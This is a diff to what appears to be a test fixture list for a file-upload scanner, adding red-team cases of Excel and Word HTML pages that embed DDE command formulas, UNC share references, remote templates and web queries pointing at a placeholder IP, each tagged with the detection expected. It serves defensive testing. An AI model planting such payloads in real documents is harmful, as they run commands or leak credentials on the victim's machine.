@@ -202,6 +202,23 @@ HOSTILE = [
         "<x:ExcelName><x:Name>Go</x:Name><x:Formula>=cmd|'/c calc'!A0</x:Formula>"
         "</x:ExcelName>")), "DDE"),
     ("html_xls_script", "orders.xls", sheetjs_html() + b"<script>x()</script>", "SCRIPT"),
+    # red team 103: Excel's XML island in a page, as in an Excel 2003 XML workbook
+    ("html_conditional_format_dde", "orders.xls", excel_html(head=(
+        "<xml><x:ConditionalFormatting><x:Range>B2</x:Range><x:Condition><x:Value1>"
+        "cmd|' /c calc'!A0</x:Value1></x:Condition></x:ConditionalFormatting></xml>")), "DDE"),
+    ("html_validation_share", "orders.xls", excel_html(head=(
+        "<xml><x:DataValidation><x:Range>B2</x:Range><x:Value>"
+        "'\\\\203.0.113.9\\s\\[b.xlsx]Sheet1'!$A$1</x:Value></x:DataValidation></xml>")),
+     "EXTERNAL_LINK"),
+    ("html_web_query", "orders.xls", excel_html(head=(
+        "<xml><x:QueryTable><x:QuerySource><x:URLString>https://203.0.113.9/q</x:URLString>"
+        "</x:QuerySource></x:QueryTable></xml>")), "EXTERNAL_LINK"),
+    ("word_page_remote_template", "case.doc", word_html(head=(
+        "<xml><w:WordDocument><w:AttachedTemplate HRef='https://203.0.113.9/t.dotm'>"
+        "</w:AttachedTemplate></w:WordDocument></xml>")), "EXTERNAL_LINK"),
+    ("word_page_hyperlink_base_share", "case.doc", word_html(head=(
+        "<xml><o:DocumentProperties><o:HyperlinkBase>\\\\203.0.113.9\\s\\</o:HyperlinkBase>"
+        "</o:DocumentProperties></xml>")), "EXTERNAL_LINK"),
     ("xml_dde", "orders.xls", spreadsheetml(
         "<Cell ss:Formula=\"=cmd|'/c calc'!A0\"><Data ss:Type='Number'/></Cell>"), "DDE"),
     ("xml_dde_escaped", "orders.xls", spreadsheetml(
